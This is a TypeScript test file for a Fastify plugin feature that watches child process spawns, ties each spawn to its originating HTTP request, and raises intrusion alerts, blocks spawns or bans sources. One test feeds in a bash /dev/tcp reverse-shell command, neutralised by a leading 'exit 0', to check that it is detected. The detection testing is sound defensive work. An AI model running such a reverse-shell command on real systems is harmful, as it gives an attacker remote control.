import { test } from 'tap'
import { existsSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { pathToFileURL } from 'node:url'
import { Worker } from 'node:worker_threads'
import Fastify, { type FastifyInstance } from 'fastify'
import requestInfo = require('../lib/index')
import { recordingLogger, until } from './helper'
import { processWatchHub } from '../lib/watch/hub'

// Taken before any registration wraps child_process: only the diagnostics channel sees what it starts.
// eslint-disable-next-line @typescript-eslint/no-var-requires
const { spawn: spawnTakenEarly } = require('node:child_process') as typeof import('node:child_process')

const FIXTURES = join(__dirname, 'fixtures', 'watch')
const ECHO = '/bin/echo'

function childProcess (): typeof import('node:child_process') {
  // Read at call time, as application code does after the plugin registered.
  return require('node:child_process')
}

async function app (processWatch: requestInfo.RequestInfoOptions['processWatch'], extra: requestInfo.RequestInfoOptions = {}): Promise<{ app: FastifyInstance, lines: Array<Record<string, any>> }> {
  const { logger, lines } = recordingLogger()
  const fastify = Fastify()
  await fastify.register(requestInfo, { logger, processWatch, ...extra })
  return { app: fastify, lines }
}

const alerts = (lines: Array<Record<string, any>>): Array<Record<string, any>> => lines.filter((line) => line.msg === 'process watch alert')

function exited (child: import('node:child_process').ChildProcess): Promise<void> {
  return new Promise((resolve) => { if (child.exitCode !== null || child.signalCode !== null) resolve(); else child.once('exit', () => resolve()) })
}

test('every child_process function is seen, attributed to its request, and alerts unless allowed', async (t) => {
  const { app: fastify, lines } = await app({ allow: ['git'], requestContext: 'always' })
  t.teardown(() => fastify.close())
  const cp = childProcess()
  fastify.get('/run/:api', async (request) => {
    const api = (request.params as { api: string }).api
    switch (api) {
      case 'exec': await promisify(cp.exec)('/bin/echo exec'); break
      case 'execFile': await promisify(cp.execFile)(ECHO, ['execFile']); break
      case 'spawn': await exited(cp.spawn(ECHO, ['spawn'])); break
      case 'fork': await exited(cp.fork(join(FIXTURES, 'exit.js'), [], { execArgv: [] })); break
      case 'execSync': cp.execSync('/bin/echo execSync'); break
      case 'execFileSync': cp.execFileSync(ECHO, ['execFileSync']); break
      case 'spawnSync': cp.spawnSync(ECHO, ['spawnSync']); break
      case 'esm': await import(pathToFileURL(join(FIXTURES, 'esm-spawn.mjs')).href).then((m) => m.run(ECHO, ['esm'])); break
    }
    return 'ran'
  })
  const apis = ['exec', 'execFile', 'spawn', 'fork', 'execSync', 'execFileSync', 'spawnSync', 'esm']
  for (const [i, api] of apis.entries()) {
    const response = await fastify.inject({ url: `/run/${api}`, remoteAddress: `198.51.100.${i + 1}` })
    t.equal(response.statusCode, 200, `${api}: served`)
  }
  const found = alerts(lines)
  t.equal(found.length, apis.length, 'one alert per spawn, none twice (exec calls execFile inside)')
  for (const [i, api] of apis.entries()) {
    const alert = found.find((a) => a.url?.path === `/run/${api}`)
    t.ok(alert, `${api}: alert found`)
    if (alert === undefined) continue
    t.equal(alert.level, 50, `${api}: error level`)
    t.equal(alert.source?.ip, `198.51.100.${i + 1}`, `${api}: the request's source`)
    t.equal(alert.event.kind, 'alert')
    t.same(alert.event.category, ['process', 'intrusion_detection'])
    t.equal(alert.event.action, 'process-started')
    t.equal(alert.request_info.process.source, 'wrap', `${api}: seen by the wrappers`)
    t.equal(alert.request_info.process.api, api === 'esm' ? 'execFileSync' : api)
    t.equal(alert.rule.name, 'unlisted', `${api}: not on the allow list`)
    t.ok(alert.http.request.id, `${api}: the request id`)
    if (!api.endsWith('Sync') && api !== 'esm') t.type(alert.process.pid, 'number', `${api}: the child's pid`)
  }
  t.equal(fastify.requestInfo.counters.processAlerts, apis.length)
})

test('allowed programs write no alert; arguments patterns are honoured', async (t) => {
  const { app: fastify, lines } = await app({ allow: [{ program: 'echo', args: /^ok( |$)/ }, '/bin/true'] })
  t.teardown(() => fastify.close())
  const cp = childProcess()
  cp.execFileSync(ECHO, ['ok', 'fine'])
  cp.execFileSync('/bin/true')
  t.equal(alerts(lines).length, 0, 'nothing to say about allowed spawns')
  t.equal(fastify.requestInfo.counters.processes, 2, 'but they are counted')
  cp.execFileSync(ECHO, ['not', 'ok'])
  const [alert] = alerts(lines)
  t.equal(alert?.rule.name, 'unlisted', 'echo with other arguments alerts')
  t.equal(alert?.source, undefined, 'no request: no source')
  t.same(alert?.process.args, [ECHO, 'not', 'ok'])
})

test('always-alert patterns: a reverse shell alerts even when its program is allowed', async (t) => {
  const { app: fastify, lines } = await app({ allow: ['sh', 'bash', 'curl'] })
  t.teardown(() => fastify.close())
  childProcess().spawnSync('/bin/sh', ['-c', 'exit 0; bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'])
  const [alert] = alerts(lines)
  t.equal(alert?.rule.name, 'reverse-shell')
  t.match(alert?.process.command_line, /dev\/tcp/)
})

test('two interleaved requests: each spawn is attributed to its own request', async (t) => {
  const { app: fastify, lines } = await app({ requestContext: 'always' })
  t.teardown(() => fastify.close())
  const cp = childProcess()
  fastify.get('/slow/:ms', async (request) => {
    const ms = Number((request.params as { ms: string }).ms)
    await new Promise((resolve) => setTimeout(resolve, ms))
    await promisify(cp.execFile)(ECHO, [`after ${ms}`])
    await new Promise((resolve) => setTimeout(resolve, ms))
    cp.execFileSync(ECHO, [`again after ${ms}`])
    return 'ok'
  })
  await Promise.all([
    fastify.inject({ url: '/slow/60', remoteAddress: '192.0.2.60' }),
    fastify.inject({ url: '/slow/40', remoteAddress: '192.0.2.40' })
  ])
  const found = alerts(lines)
  t.equal(found.length, 4)
  for (const alert of found) {
    const ms = alert.process.args[1].match(/\d+/)[0]
    t.equal(alert.source.ip, `192.0.2.${ms}`, `${alert.process.command_line}: from its request's source`)
    t.equal(alert.url.path, `/slow/${ms}`)
  }
  t.same(found.map((a) => a.process.args[1]), ['after 40', 'after 60', 'again after 40', 'again after 60'], 'interleaved in time')
})

test('by default no request context is kept until the first spawn: that one names the requests in flight, later requests get their own', async (t) => {
  const { app: fastify, lines } = await app({})
  t.teardown(() => fastify.close())
  const cp = childProcess()
  const hub = processWatchHub()
  const contexts: Array<[string, boolean]> = []
  fastify.get('/slow/:ms', async (request) => {
    const ms = Number((request.params as { ms: string }).ms)
    contexts.push([request.url, hub.requests.getStore() !== undefined])
    await new Promise((resolve) => setTimeout(resolve, ms))
    cp.execFileSync(ECHO, [`after ${ms}`])
    return 'ok'
  })
  await Promise.all([
    fastify.inject({ url: '/slow/60', remoteAddress: '192.0.2.60' }),
    fastify.inject({ url: '/slow/20', remoteAddress: '192.0.2.20' })
  ])
  await fastify.inject({ url: '/slow/1', remoteAddress: '192.0.2.1' })
  t.same(contexts, [['/slow/60', false], ['/slow/20', false], ['/slow/1', true]], 'the context is kept from the first spawn on')
  const found = alerts(lines)
  t.same(found.map((a) => a.process.args[1]), ['after 20', 'after 60', 'after 1'])
  const [first, second, third] = found
  t.equal(first.source, undefined, 'the first spawn: no request context')
  t.same(first.request_info.process.in_flight.map((r: Record<string, unknown>) => r.realIp).sort(), ['192.0.2.20', '192.0.2.60'],
    'it names both requests in flight')
  t.equal(second.source, undefined, 'a request that started before the context was kept has none')
  t.same(second.request_info.process.in_flight.map((r: Record<string, unknown>) => r.realIp), ['192.0.2.60'])
  t.equal(third.source.ip, '192.0.2.1', 'a request started after the first spawn: attributed to it')
  t.equal(third.request_info.process.in_flight, undefined, 'and no list of suspects')
})

test('skipped requests (health checks) are not left in flight: a spawn outside any request names none', async (t) => {
  const { app: fastify, lines } = await app({}, { skip: (request) => request.url === '/health' })
  t.teardown(() => fastify.close())
  fastify.get('/health', async () => 'ok')
  for (let i = 0; i < 3; i++) t.equal((await fastify.inject({ url: '/health', remoteAddress: '192.0.2.3' })).statusCode, 200)
  childProcess().execFileSync(ECHO, ['outside'])
  const [alert] = alerts(lines)
  t.equal(alert?.rule.name, 'unlisted')
  t.equal(alert?.request_info.process.in_flight, undefined, 'no request is named')
})

test('a spawn in a timer after the response is still attributed to the request that set it', async (t) => {
  const { app: fastify, lines } = await app({ requestContext: 'always' })
  t.teardown(() => fastify.close())
  fastify.post('/later', async (request) => {
    setTimeout(() => childProcess().execFile(ECHO, ['late']), 30)
    return { got: request.body }
  })
  const response = await fastify.inject({ method: 'POST', url: '/later', payload: { a: 1 }, remoteAddress: '203.0.113.5' })
  t.equal(response.statusCode, 200)
  await until(() => alerts(lines).length === 1, 2000)
  const [alert] = alerts(lines)
  t.equal(alert.source.ip, '203.0.113.5')
  t.equal(alert.http.response?.status_code, 200, 'the request had its response by then')
  t.equal(alert.url.path, '/later')
})

test('block mode: the spawn throws before the child starts, and the source can be banned', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'watch-'))
  t.teardown(() => rmSync(dir, { recursive: true, force: true }))
  const { app: fastify, lines } = await app({ mode: 'block', ban: { ttl: '1h' }, requestContext: 'always' }, { respond: { mode: 'block' } })
  t.teardown(() => fastify.close())
  const cp = childProcess()
  fastify.get('/touch/:how', async (request) => {
    const marker = join(dir, (request.params as { how: string }).how)
    try {
      if ((request.params as { how: string }).how === 'sync') cp.execSync(`touch ${marker}`)
      else await exited(cp.spawn('/usr/bin/touch', [marker]))
    } catch (err) {
      return { refused: (err as { code?: string }).code }
    }
    return { refused: false }
  })
  for (const how of ['sync', 'async']) {
    const response = await fastify.inject({ url: `/touch/${how}`, remoteAddress: how === 'sync' ? '192.0.2.7' : '192.0.2.8' })
    t.same(response.json(), { refused: 'ERR_PROCESS_BLOCKED' }, `${how}: the call threw`)
    t.notOk(existsSync(join(dir, how)), `${how}: the child never ran (no marker file)`)
  }
  const found = alerts(lines)
  t.same(found.map((a) => a.event.action), ['process-blocked', 'process-blocked'])
  t.same(found.map((a) => a.event.outcome), ['failure', 'failure'])
  await until(() => fastify.requestInfo.bans().length === 2, 2000)
  t.same(fastify.requestInfo.bans().map((b) => b.reason).sort(), ['process-watch:unlisted', 'process-watch:unlisted'])
  t.equal((await fastify.inject({ url: '/', remoteAddress: '192.0.2.7' })).statusCode, 403, 'the source is banned')
  t.equal(fastify.requestInfo.counters.processesBlocked, 2)
})

test('a function taken before the plugin registered: the diagnostics channel still sees its async spawns', async (t) => {
  const { app: fastify, lines } = await app({ requestContext: 'always' })
  t.teardown(() => fastify.close())
  fastify.get('/early', async () => {
    await exited(spawnTakenEarly(ECHO, ['early']))
    return 'ok'
  })
  await fastify.inject({ url: '/early', remoteAddress: '192.0.2.44' })
  await until(() => alerts(lines).length === 1, 2000)
  const [alert] = alerts(lines)
  t.equal(alert.request_info.process.source, 'diagnostics')
  t.equal(alert.source.ip, '192.0.2.44', 'attributed to the request')
  t.same(alert.process.args, [ECHO, 'early'])
})

test('a spawn in a worker thread (preload in its execArgv) reaches the main thread, and is refused there in block mode', async (t) => {
  const preload = join(__dirname, '..', 'dist', 'process-watch.js')
  if (!existsSync(preload)) {
    t.plan(0, 'dist/process-watch.js is missing: npm run build')
    return
  }
  const dir = mkdtempSync(join(tmpdir(), 'watch-'))
  t.teardown(() => rmSync(dir, { recursive: true, force: true }))
  for (const mode of ['monitor', 'block'] as const) {
    const { app: fastify, lines } = await app({ mode })
    const marker = join(dir, mode)
    const worker = new Worker(join(FIXTURES, 'worker-spawn.js'), {
      workerData: { command: `touch ${marker}` },
      execArgv: [...process.execArgv, '--require', preload]
    })
    const [said] = await Promise.all([new Promise((resolve) => worker.once('message', resolve)), new Promise((resolve) => worker.once('exit', resolve))])
    t.equal(said, mode === 'block' ? 'ERR_PROCESS_BLOCKED' : 'ran', `${mode}: what the worker saw`)
    t.equal(existsSync(marker), mode === 'monitor', `${mode}: the marker file`)
    await until(() => alerts(lines).length === 1, 2000)
    const [alert] = alerts(lines)
    t.not(alert.process.thread.id, 0, `${mode}: the worker's thread`)
    t.equal(alert.event.action, mode === 'block' ? 'process-blocked' : 'process-started')
    await fastify.close()
  }
})

test('the poller sees a child no JavaScript source sees, and names the requests in flight when it started', async (t) => {
  const { app: fastify, lines } = await app({ poller: { interval: 10 } })
  t.teardown(() => fastify.close())
  fastify.get('/worker', async () => {
    // A worker thread without the preload: its child_process module is not wrapped, and the diagnostics
    // channel it publishes on has no subscriber in that thread. Only /proc shows the child.
    const worker = new Worker(join(FIXTURES, 'worker-spawn.js'), { workerData: { command: 'sleep 0.3' }, execArgv: [] })
    await new Promise((resolve) => worker.once('exit', resolve))
    return 'ok'
  })
  const response = await fastify.inject({ url: '/worker', remoteAddress: '192.0.2.99' })
  t.equal(response.statusCode, 200)
  await until(() => alerts(lines).length > 0, 3000)
  const found = alerts(lines)
  t.equal(found.length, 1, 'one alert for the one child')
  const [alert] = found
  t.equal(alert.request_info.process.source, 'poller')
  t.match(alert.process.command_line, /sleep 0\.3/)
  t.equal(alert.source, undefined, 'no request context')
  t.same(alert.request_info.process.in_flight.map((r: Record<string, unknown>) => [r.realIp, r.path]), [['192.0.2.99', '/worker']],
    'the request in flight is named')
})

test('options are checked at registration with messages that name the option', async (t) => {
  const cases: Array<[unknown, RegExp]> = [
    [{ mode: 'kill' }, /option processWatch\.mode must be one of 'monitor', 'block'; got "kill"/],
    [{ allow: 'git' }, /processWatch\.allow must be an array/],
    [{ allow: ['git', { program: '' }] }, /processWatch\.allow\[1\]\.program must be a non-empty string/],
    [{ allow: [{ program: 'tar', args: '(' }] }, /processWatch\.allow\[0\]\.args is not a valid regular expression/],
    [{ ban: true }, /option processWatch\.ban needs option respond/],
    [{ ban: { ttl: 'soon' } }, /option processWatch\.ban\.ttl: "soon" is not a duration/],
    [{ poller: { interval: 0 } }, /option processWatch\.poller\.interval must be an integer from 1 to 60000/],
    [{ requestContext: 'never' }, /option processWatch\.requestContext must be one of 'always', 'after-first-spawn'; got "never"/],
    [{ sources: [] }, /option processWatch accepts the keys allow, mode, ban, diagnostics, poller, requestContext; got 'sources'/]
  ]
  for (const [processWatch, message] of cases) {
    const fastify = Fastify()
    await t.rejects(async () => { await fastify.register(requestInfo, { processWatch } as requestInfo.RequestInfoOptions).ready() }, message, JSON.stringify(processWatch))
    await fastify.close()
  }
})
